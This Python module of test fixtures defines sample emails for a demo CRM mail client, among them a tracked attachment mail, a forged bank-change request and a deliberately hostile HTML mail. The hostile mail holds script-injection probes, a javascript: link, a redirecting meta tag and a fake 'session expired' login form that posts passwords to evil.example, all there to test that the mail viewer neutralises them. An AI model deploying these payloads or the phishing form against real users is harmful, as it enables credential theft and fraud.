"""Mails that wait for a button: customers who ask, answer and attach, one that is hostile, one that is forged.

Owns their texts. Each becomes the JSON that ``POST /mail`` of the control endpoint takes. May import nothing of
``local``.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

_MIA = "Mia Schneider <mia@customer.example>"
_JONAS = "Jonas Weber <jonas.weber@weber-bau.example>"
_EMILY = "Emily Carter <emily@carter-design.example>"

# 40 × 40, one colour: what a small logo weighs.
_LOGO = (
    "iVBORw0KGgoAAAANSUhEUgAAACgAAAAoCAIAAAADnC86AAAAMElEQVR42u3NQQkAAAgEsGtjAvuHMoIxBF+D/Zfpei"
    "oWi8VisVgsFovFYrFYLBaLz2JDa1kYV1XVLgAAAABJRU5ErkJggg=="
)
_PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length 52>>stream
BT /F1 18 Tf 40 120 Td (Floor plan, second floor) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>
"""
# No part of it may show any effect but its text: that is what the reader's frame is for.
_HOSTILE = """
<style>body{display:none} *{position:fixed}</style>
<script>top.location='https://evil.example/'; alert('mine')</script>
<p onclick="alert(1)" onmouseover="alert(2)">Dear customer service, please see our order.</p>
<img src="https://evil.example/open.gif?who=anna" onerror="alert(3)" width="1" height="1" alt="">
<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session has expired.
<form action="https://evil.example/login"><input name="password" placeholder="Password"><button>Sign in</button></form>
</div>
<a href="javascript:alert(4)">Open the order</a>
<a href="https://evil.example/">https://demo-crm.example/orders</a>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>
<svg onload="alert(5)"><animate onbegin="alert(6)" attributeName="x"/></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
"""
_TRACKED = """
<p>Guten Tag,</p>
<p>anbei der Grundriss. Wir bräuchten die <b>zwölf Schreibtische</b> bis Monatsende.</p>
<table><tr><td>Schreibtisch, Eiche</td><td>12</td></tr><tr><td>Rollcontainer</td><td>12</td></tr></table>
<p>Mit freundlichen Grüßen<br>Mia Schneider</p>
<p><img src="cid:logo" width="40" height="40" alt="Schneider GmbH"></p>
<img src="https://pixel.mailing.example/open?id=4711" width="1" height="1" alt="">
<img src="https://pictures.customer.example/office.jpg" width="320" height="120" alt="Unser Büro">
"""


# What a mail server sends back (RFC 3464) when somebody has mistyped an address.
_BOUNCE = """\
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>\r
To: {to}\r
Date: {date}\r
Subject: Delivery Status Notification (Failure)\r
MIME-Version: 1.0\r
Content-Type: multipart/report; boundary="part"; report-type=delivery-status\r
\r
--part\r
Content-Type: text/plain; charset=utf-8\r
\r
Your message could not be delivered to lukas@gross-logistk.example.\r
--part\r
Content-Type: message/delivery-status\r
\r
Reporting-MTA: dns; googlemail.com\r
\r
Final-Recipient: rfc822; lukas@gross-logistk.example\r
Action: failed\r
Status: 5.1.2\r
Diagnostic-Code: smtp; 550 5.1.2 Host unknown\r
\r
--part--\r
"""


@dataclass(frozen=True)
class ReadyMail:
    """A mail by its name; ``auth`` is what Gmail finds out about its sender, ``parts`` more of it.

    ``source`` is the whole mail instead, where ``{to}`` and ``{date}`` are still to be filled in.
    """

    id: str
    sender: str
    subject: str
    text: str
    auth: str | None = None
    parts: Mapping[str, Any] = field(default_factory=dict)
    source: str = ""

    def as_json(self) -> dict[str, Any]:
        """What ``POST /mail`` takes, without the receiver."""
        body = {"from": self.sender, "subject": self.subject, "text": self.text, **self.parts}
        return body if self.auth is None else body | {"auth": self.auth}


def _file(name: str, kind: str, data: bytes) -> dict[str, str]:
    return {"filename": name, "content_type": kind, "data_base64": base64.b64encode(data).decode()}


_INVITATION = b"""BEGIN:VCALENDAR\r
VERSION:2.0\r
PRODID:-//Weber Bau//DE\r
METHOD:REQUEST\r
BEGIN:VEVENT\r
UID:besichtigung-4711@weber-bau.example\r
DTSTAMP:20261101T090000Z\r
DTSTART:20270112T090000Z\r
DTEND:20270112T100000Z\r
SUMMARY:Besichtigung der Halle\r
LOCATION:Industriestr. 4\r
ORGANIZER;CN=Jonas Weber:mailto:jonas.weber@weber-bau.example\r
ATTENDEE;CN=Anna Berger:mailto:anna@demo-crm.example\r
END:VEVENT\r
END:VCALENDAR\r
"""

ANSWER = "Vielen Dank, das passt uns gut.\n\nViele Grüße"
"""What is answered to whatever a user has sent."""

MAILS: tuple[ReadyMail, ...] = (
    ReadyMail(
        "question",
        _MIA,
        "Angebot für zwölf Schreibtische",
        "Guten Tag, könnten Sie uns ein Angebot für zwölf Schreibtische machen? Wir würden gern diesen Monat "
        "entscheiden.\n\nViele Grüße\nMia Schneider",
    ),
    ReadyMail(
        "attachment",
        _MIA,
        "Grundriss des zweiten Stocks",
        "Guten Tag, anbei der Grundriss.",
        parts={
            "html": _TRACKED,
            "attachments": [
                _file("Grundriss 2. Stock.pdf", "application/pdf", _PDF),
                _file("logo.png", "image/png", base64.b64decode(_LOGO)) | {"content_id": "logo"},
            ],
        },
    ),
    ReadyMail(
        "colleague",
        _EMILY,
        "Invoice 2042",
        "Hello both, the invoice is paid. Thank you for the quick delivery!\n\nEmily",
        parts={"cc": "Ben Okafor <ben@demo-crm.example>"},
    ),
    ReadyMail(
        "invitation",
        _JONAS,
        "Besichtigung der Halle",
        "Guten Tag, passt Ihnen dieser Termin?",
        parts={"attachments": [_file("einladung.ics", "text/calendar", _INVITATION)]},
    ),
    ReadyMail("hostile", _MIA, "Your session has expired", "Please see our order.", parts={"html": _HOSTILE}),
    ReadyMail(
        "forged",
        _MIA,
        "Neue Bankverbindung",
        "Bitte überweisen Sie ab sofort auf unser neues Konto.",
        auth="fail",
    ),
    ReadyMail("bounce", "", "Delivery Status Notification (Failure)", "", source=_BOUNCE),
    ReadyMail("stranger", "Rita Fremd <rita@elsewhere.example>", "Bewerbung", "Ich suche eine Stelle."),
)
